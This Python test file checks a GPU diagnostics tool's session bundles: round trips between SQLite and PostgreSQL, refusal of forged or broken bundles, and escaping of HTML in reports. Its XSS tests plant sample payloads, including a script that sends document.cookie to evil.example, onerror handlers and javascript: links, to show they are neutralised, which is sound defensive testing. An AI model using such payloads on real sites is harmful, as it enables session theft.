"""Bundles: round trips between SQLite and PostgreSQL, refusal of bad bundles, neutralised HTML, safe reports."""
from __future__ import annotations

import hashlib
import json
from html.parser import HTMLParser
from typing import Any

import pytest
from sqlalchemy import text

from diagnostics.store import BundleError, Store
from diagnostics.store.bundle import MAX_BUNDLE_BYTES, render_html, render_markdown
from diagnostics.store.summary import sha256_of
from tests.pgserver import db_url, fresh_pg_database, pg_url  # noqa: F401
from tests.test_store_common import full_bundle, sample_report, secrets


def _snapshot(store: Store) -> str:
    """A digest of every row of every table: 'the database is unchanged' means this is unchanged."""
    h = hashlib.sha256()
    with store.engine.connect() as conn:
        for t in ("sessions", "session_reports", "probe_results", "facts", "diagnoses", "generation_results", "notes"):
            for row in conn.execute(text(f"SELECT * FROM {t} ORDER BY 1")):
                h.update(repr(tuple(row)).encode())
    return h.hexdigest()


class _ActiveHTML(HTMLParser):
    """Collects what a browser would execute: script-like elements, on* handlers, javascript: URLs."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list) -> None:
        if tag in ("script", "iframe", "object", "embed", "frame", "svg", "img", "link", "meta") \
                and not (tag == "meta" and any(k in ("charset", "http-equiv") for k, _ in attrs)):
            self.found.append(f"<{tag}>")
        for k, v in attrs:
            if k.startswith("on"):
                self.found.append(f"{tag} {k}=")
            if v and v.strip().lower().replace("\x00", "").startswith(("javascript:", "vbscript:", "data:")):
                self.found.append(f"{tag} {k}={v}")


def active_html(page: str) -> list[str]:
    p = _ActiveHTML()
    p.feed(page)
    return p.found


def _rebundle(data: bytes, mutate: Any) -> bytes:
    """Change a bundle and give it a correct checksum again (what a forger would do)."""
    b = json.loads(data)
    mutate(b)
    b.pop("sha256", None)
    b["sha256"] = sha256_of(b)
    return json.dumps(b).encode()


@pytest.mark.parametrize("direction", ["sqlite->postgresql", "postgresql->sqlite"])
def test_round_trip_between_backends(direction: str, tmp_path, pg_url: str) -> None:  # noqa: F811
    sqlite_url = f"sqlite:///{tmp_path / 's.db'}"
    pg = fresh_pg_database(pg_url)
    src_url, dst_url = (sqlite_url, pg) if direction.startswith("sqlite") else (pg, sqlite_url)
    src, dst = Store(src_url), Store(dst_url)
    try:
        sid = src.save(sample_report())
        data = src.export_bundle(sid)
        for s in secrets():
            assert s.encode() not in data, "a planted secret leaked into the export"
        new_id = dst.import_bundle(data)
        assert new_id == sid
        assert dst.get_json(sid) == src.get_json(sid), "byte-identical session after the round trip"
        assert dst.get(sid) == src.get(sid)
        a, b = src.info(sid), dst.info(sid)
        for k in ("created_at", "host", "verdict", "top_diagnosis_id", "gpu_names", "torch_version"):
            assert a[k] == b[k], k
        assert b["imported"] is True
        # importing the same bundle again stores nothing new
        res = dst.import_bundle_ex(data)
        assert res["existing"] is True and dst.count() == 1
        # and back again: still identical
        back = src.import_bundle_ex(dst.export_bundle(sid))
        assert back == {"id": sid, "warnings": [], "existing": True}
    finally:
        src.close()
        dst.close()


def test_bundle_shape_and_reports(db_url: str) -> None:  # noqa: F811
    store = Store(db_url)
    sid = store.save(sample_report())
    lean = json.loads(store.export_bundle(sid))  # the default: the session and its checksum
    assert sorted(lean) == ["exported_at", "format", "session", "sha256", "version"]
    assert lean["sha256"] == sha256_of({k: v for k, v in lean.items() if k != "sha256"})
    assert lean["session"] == store.get(sid) and lean["version"] == 1
    b = json.loads(full_bundle(store, sid))  # --with-reports: the renderings too
    assert b["format"] == "gpu-doctor-session" and b["version"] == 1
    assert b["sha256"] == sha256_of({k: v for k, v in b.items() if k != "sha256"})
    assert b["session"] == store.get(sid)
    assert "# GPU doctor session" in b["report_markdown"] and "hip-no-binary-for-gpu" in b["report_markdown"]
    assert "## Removed before saving" in b["report_markdown"] and "| github-token |" in b["report_markdown"]
    assert b["report_html"].startswith("<!doctype html>") and "<table>" in b["report_html"]
    masked = json.loads(store.export_bundle(sid, mask_identity=True))["session"]
    assert masked["host"] == "<HOST>" and "alice" not in json.dumps(masked)
    with pytest.raises(TypeError):  # the renderings (3x the logs) are never returned as bytes: write_bundle only
        store.export_bundle(sid, reports=True)  # type: ignore[call-arg]
    store.close()


def _bad_bundles(good: bytes) -> dict[str, tuple[bytes, str]]:
    altered = json.loads(good)
    altered["session"]["facts"]["gpu.count"] = 8  # checksum left as it was
    return {
        "truncated": (good[: len(good) // 2], "truncated"),
        "truncated-end": (good[:-3], "not valid JSON"),
        "altered": (json.dumps(altered).encode(), "checksum mismatch"),
        "future-version": (_rebundle(good, lambda b: b.__setitem__("version", 2)), "newer gpu-doctor"),
        "oversized": (good + b" " * (MAX_BUNDLE_BYTES + 1 - len(good)), "20 MB limit"),
        "not-json": (b"\x89PNG\r\n\x1a\n....", "not UTF-8"),
        "empty": (b"", "empty"),
        "wrong-format": (_rebundle(good, lambda b: b.__setitem__("format", "sosreport")), "not a gpu-doctor"),
        "no-checksum": (json.dumps({k: v for k, v in json.loads(good).items() if k != "sha256"}).encode(),
                        "no sha256"),
        "malformed-session": (_rebundle(good, lambda b: b["session"].__setitem__("probes", "x")), "malformed"),
        "bad-version": (_rebundle(good, lambda b: b.__setitem__("version", "1")), "version"),
    }


def test_bad_bundles_refused_and_database_unchanged(db_url: str, tmp_path) -> None:  # noqa: F811
    src = Store(f"sqlite:///{tmp_path / 'src.db'}")
    good = src.export_bundle(src.save(sample_report()))
    src.close()
    store = Store(db_url)
    store.save(sample_report())
    before = _snapshot(store)
    for name, (data, msg) in _bad_bundles(good).items():
        with pytest.raises(BundleError) as ei:
            store.import_bundle(data)
        assert msg in str(ei.value), (name, str(ei.value))
        assert str(ei.value).startswith("refused:"), name
        assert _snapshot(store) == before, f"{name}: the database changed"
    assert store.count() == 1
    store.import_bundle(good)  # the good one still goes in
    assert store.count() == 2
    store.close()


def test_bundles_with_and_without_reports_import_the_same(db_url: str, tmp_path) -> None:  # noqa: F811
    """The default bundle is the former one (every bundle made before --with-reports) less its two renderings,
    under its own checksum: each imports to the same stored session, and a former bundle still imports."""
    src = Store(f"sqlite:///{tmp_path / 'src.db'}")
    sid = src.save(sample_report())
    lean, full = src.export_bundle(sid), full_bundle(src, sid)
    src.close()
    a, b = json.loads(lean), json.loads(full)
    assert {k: v for k, v in b.items() if k not in ("report_markdown", "report_html", "sha256", "exported_at")} == \
        {k: v for k, v in a.items() if k not in ("sha256", "exported_at")}
    assert len(lean) < len(full)
    for s in secrets():
        assert s.encode() not in lean and s.encode() not in full
    store = Store(db_url)
    first = store.import_bundle_ex(full)
    assert first == {"id": sid, "warnings": [], "existing": False}
    got = store.get_json(sid)
    assert store.import_bundle_ex(lean) == {"id": sid, "warnings": [], "existing": True}
    store.delete(sid)
    assert store.import_bundle_ex(lean)["id"] == sid and store.get_json(sid) == got
    # a rendering added to a lean bundle, or one taken from a full bundle, breaks its checksum
    for data, change in ((lean, lambda d: d.__setitem__("report_html", "<p>x</p>")),
                         (full, lambda d: d.pop("report_markdown"))):
        d = json.loads(data)
        change(d)
        with pytest.raises(BundleError, match="checksum mismatch"):
            store.import_bundle(json.dumps(d).encode())
    store.close()


def test_html_and_script_neutralised_on_import(db_url: str) -> None:  # noqa: F811
    store = Store(db_url)
    src_rep = sample_report()
    good = store.export_bundle(store.save(src_rep))
    store.delete(src_rep["session_id"])

    def plant(b: dict) -> None:
        b["session"]["logs"].append({"name": "<img src=x onerror=alert(1)>.log",
                                     "text": "<script>fetch('https://evil.example/'+document.cookie)</script>"})
        b["session"]["diagnoses"][0]["fix"] = "[click](javascript:alert(1)) <iframe src=//evil></iframe>"
        b["report_html"] = "<script>alert('the rendered report in the file is ignored')</script>"

    res = store.import_bundle_ex(_rebundle(good, plant))
    assert res["warnings"] and "neutralised HTML/script markup in 3 field(s)" in res["warnings"][0]
    got = store.get(res["id"])
    blob = json.dumps(got)
    assert "<script" not in blob.lower() and "<iframe" not in blob.lower() and "<img" not in blob.lower()
    assert "javascript:" not in blob.lower()
    assert "&lt;script>fetch(" in got["logs"][-1]["text"], "the text stays readable"
    for page in (store.export_html(res["id"]), json.loads(full_bundle(store, res["id"]))["report_html"]):
        assert active_html(page) == []
        assert "<script" not in page.lower() and "javascript:" not in page.lower()
    store.close()


def test_rendered_reports_escape_untrusted_text() -> None:
    rep = sample_report()
    rep["logs"].append({"name": "x", "text": "```\n<script>alert(1)</script>\n```"})
    rep["facts"]["os.name"] = "<b onmouseover=alert(1)>Ubuntu</b> | [x](javascript:alert(2))"
    rep["diagnoses"][0]["fix"] = "1. <script>alert(3)</script>\n2. see [docs](https://rocm.docs.amd.com/) " \
                                 "and [bad](javascript:alert(4))"
    md = render_markdown(rep)
    assert "&lt;b onmouseover" in md
    html = render_html(rep)
    assert active_html(html) == []  # (the words "javascript:" may remain as inert text in a table cell)
    assert 'href="javascript' not in html.lower()
    assert '<a href="https://rocm.docs.amd.com/"' in html and "Content-Security-Policy" in html
    assert "hipErrorNoBinaryForGpu" in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html


def test_duplicate_check_and_fleet_refresh_of_a_long_report(db_url: str) -> None:  # noqa: F811
    """A report over the store's 1 MiB threshold (blob handle / COPY on save, slices on PostgreSQL reads): import of
    its own bundle is found by the stored checksum, a different session under its id gets a new id and leaves the
    stored one as it was, and refresh_fleet (the locked, sliced read inside a write transaction) keeps its rows."""
    from diagnostics.store import stats as fleet
    from diagnostics.store.bundle import build_bundle

    rep = sample_report()
    rep["logs"] = [{"name": "big", "text": "RuntimeError: boom \\ \t x\n" * 60_000}]  # ~1.6 MB, escapes included
    store = Store(db_url)
    sid = store.save(rep)
    stored = store.get_json(sid)
    assert len(stored) > (1 << 20)
    assert store.import_bundle_ex(store.export_bundle(sid)) == {"id": sid, "warnings": [], "existing": True}
    other = build_bundle({**sample_report(), "session_id": sid, "host": "another-host"})
    res = store.import_bundle_ex(other)
    assert res["id"] != sid and not res["existing"] and any("already exists" in w for w in res["warnings"])
    assert store.get_json(sid) == stored and store.get(res["id"])["host"] == "another-host"
    before = fleet.stats(store, "cause")["rows"]
    store.refresh_fleet(sid)
    assert fleet.stats(store, "cause")["rows"] == before
    assert fleet.refresh(store) == 2
    assert fleet.stats(store, "cause")["rows"] == before and store.get_json(sid) == stored
    store.close()
